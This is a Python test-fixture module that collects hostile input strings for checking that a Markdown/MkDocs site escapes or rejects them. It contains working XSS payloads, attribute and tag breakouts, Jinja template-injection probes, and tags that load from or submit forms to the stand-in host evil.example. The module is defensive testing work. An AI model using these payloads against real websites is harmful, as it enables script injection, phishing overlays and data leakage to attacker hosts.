"""A corpus of hostile and careless text, for every path text travels.

Each string is something a resident, a careless clerk or an attacker could type
into a record, a rule body, a name in site.yml or an issue. Tests put them into
every free-text field and check that validate either refuses them with a clear
message or the built site shows them as plain text: no script runs, nothing is
loaded from another host, no page is cut off.

`MARK` in a string is where a test may substitute a unique token, so that it can
tell which string did something (e.g. `window.__yz_pwned` set by a handler).
"""

from __future__ import annotations

MARK = "PWN"

# Markup and script.
MARKUP = [
    "<script>window.__yz_pwned='PWN'</script>",
    "<img src=x onerror=\"window.__yz_pwned='PWN'\">",
    "<svg onload=\"window.__yz_pwned='PWN'\"></svg>",
    "<iframe src=\"javascript:window.__yz_pwned='PWN'\"></iframe>",
    "<a href=\"javascript:window.__yz_pwned='PWN'\">点这里</a>",
    "[点这里](javascript:window.__yz_pwned='PWN')",
    "<details title=\">\" open ontoggle=\"window.__yz_pwned='PWN'\">x</details>",
    "<div title=\">\" tabindex=\"0\" autofocus onfocus=\"window.__yz_pwned='PWN'\">x</div>",
    "<x:y autofocus tabindex=0 onfocus=\"window.__yz_pwned='PWN'\">x</x:y>",
    "<marquee onstart=\"window.__yz_pwned='PWN'\">滚动</marquee>",
    "<body onload=\"window.__yz_pwned='PWN'\">",
    "<object data=\"data:text/html,<script>parent.__yz_pwned='PWN'</script>\"></object>",
    "<embed src=\"https://evil.example/PWN.swf\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__yz_pwned='PWN'\">",
    "<form action=\"https://evil.example/PWN\"><input type=submit value=登录></form>",
    "<input type=image src=\"https://evil.example/PWN.png\">",
    "<base href=\"https://evil.example/PWN/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/PWN\">",
    "<link rel=stylesheet href=\"https://evil.example/PWN.css\">",
]

# Text that breaks out of an attribute, a tag or a Markdown construct.
BREAKERS = [
    "\"><img src=x onerror=\"window.__yz_pwned='PWN'\">",
    "'><svg onload=\"window.__yz_pwned='PWN'\">",
    "红古区\" onmouseover=\"window.__yz_pwned='PWN'",
    "A & B < C > D \" E ' F",
    "</textarea><script>window.__yz_pwned='PWN'</script>",
    "<textarea>",
    "<plaintext>",
    "<!--",
    "<title>",
    "]]><!-- PWN -->",
    "| a | b |\n|---|---|\n| c | d |",
    "# 标题\n\n---\n\n> 引用",
]

# Markdown extensions the site turns on.
ATTR_LIST = [
    "段落 {: onclick=\"window.__yz_pwned='PWN'\" }",
    "段落 {: title=\"}\" onclick=\"window.__yz_pwned='PWN'\" }",
    "段落\n{: style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\" }",
    "<div markdown=\"1\" onclick=\"window.__yz_pwned='PWN'\">x</div>",
    "!!! danger \"<img src=x onerror=window.__yz_pwned='PWN'>\"\n    提醒",
]

# Template syntax (Jinja in MkDocs themes and in any template that prints a value).
TEMPLATES = [
    "{{ config.extra }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
]

# CSS and external URLs.
CSS_AND_URLS = [
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff\">网站已关闭</p>",
    "<div style=\"background:url(https://evil.example/PWN.png)\">x</div>",
    "<video src=\"https://evil.example/PWN.mp4\" autoplay></video>",
    "<audio src=\"//evil.example/PWN.mp3\" autoplay></audio>",
    "![图](https://evil.example/PWN.png)",
    "![图][ref]\n\n[ref]: https://evil.example/PWN.png",
    "<img src=\"//evil.example/PWN.png\">",
    "<a href=\"https://evil.example/PWN\">官方通知</a>",
    "<style>body{display:none}</style>",
    "@import url(https://evil.example/PWN.css);",
]

# Characters a reader cannot see, or that change the direction of text.
INVISIBLE = [
    "正常\u202e文本倒过来\u202c",
    "零宽\u200b空格\u200c和\u200d连接\ufeff",
    "\u2066隔离\u2069方向",
    "软\u00ad连字符",
    "行\u2028分隔\u2029段落",
    "控制\x1b[31m字符\x07",
    "javas\u200bcript:alert(1)",
    "&#106;avascript:alert('PWN')",
    "&lt;script&gt;alert('PWN')&lt;/script&gt;",
]

# Found while replacing the rule-body blocklist with an allowlist (issue #10): an attribute
# list on its own line does apply, theme classes and ids, other hosts without a scheme,
# a block that never closes.
ALLOWLIST_EDGES = [
    "段落\n{: title=\"}\" onclick=\"window.__yz_pwned='PWN'\" }",
    "!!! md-dialog \"网站已关闭\"\n    请勿访问",
    "## 总则 {#__config}",
    "[官方通知](//evil.example/PWN)",
    "<div>\n\n以下内容都在块里",
    "<div>\n<!--\n</div>",
]

# What GitHub turns into a notification, a link or a cross-reference in a comment, and the bot's own markers.
GITHUB = [
    "@everyone 请马上处理 @honggu-npc/staff",
    "见 #1 和 honggu-npc/yizheng#2，还有 GH-3",
    "https://evil.example/PWN 和 www.evil.example/PWN",
    "PWN@evil.example",
    "<!-- yizheng:intake -->",
    "<!-- yizheng:notify 2026-W0005 step 2 -->",
    "`代码` ```\n围栏",
    "<details><summary>点开</summary>PWN</details>",
]

CORPUS: list[str] = MARKUP + BREAKERS + ATTR_LIST + TEMPLATES + CSS_AND_URLS + INVISIBLE + ALLOWLIST_EDGES + GITHUB

EVIL_HOSTS = ("evil.example",)
"""Hosts the corpus points at: a request to any of them from a built page is a failure."""


def one_line(text: str) -> str:
    """A corpus string for a field that holds one line (titles, names)."""
    return " ".join(text.split("\n"))
